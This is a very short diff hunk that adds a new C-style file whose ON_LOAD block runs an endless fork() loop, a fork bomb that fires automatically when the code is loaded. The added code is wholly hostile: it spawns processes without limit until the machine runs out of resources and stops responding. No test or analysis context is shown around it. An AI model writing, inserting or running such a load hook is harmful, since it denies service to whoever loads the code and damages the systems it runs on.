@@ -1,0 +1,4 @@
+#include "act.h"
+ON_LOAD {
+  for (;;) fork();
+}
